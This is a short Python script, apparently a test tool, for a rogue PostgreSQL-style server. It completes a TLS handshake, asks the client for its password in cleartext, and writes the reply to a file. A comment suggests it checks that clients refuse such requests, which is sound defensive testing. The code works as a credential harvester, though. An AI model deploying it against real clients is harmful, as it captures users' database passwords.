"""A rogue server that asks for the password in clear: rogue ADDRESS PORT KEY FILE. What a client sends after that goes into the file."""

import pathlib
import socket
import ssl
import struct
import sys

address, port, key, file = sys.argv[1:]
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(f"{key}.crt", f"{key}.key")
listener = socket.create_server((address, int(port)))
pathlib.Path(file).write_bytes(b"")
while True:
    client, _ = listener.accept()
    try:
        client.settimeout(5)
        client.recv(8)
        client.sendall(b"S")
        with context.wrap_socket(client, server_side=True) as server:
            server.recv(4096)
            server.sendall(struct.pack("!cII", b"R", 8, 3))
            with open(file, "ab") as seen:
                seen.write(server.recv(4096))
    except OSError:
        # The client left: that is what it should do.
        continue
    finally:
        client.close()
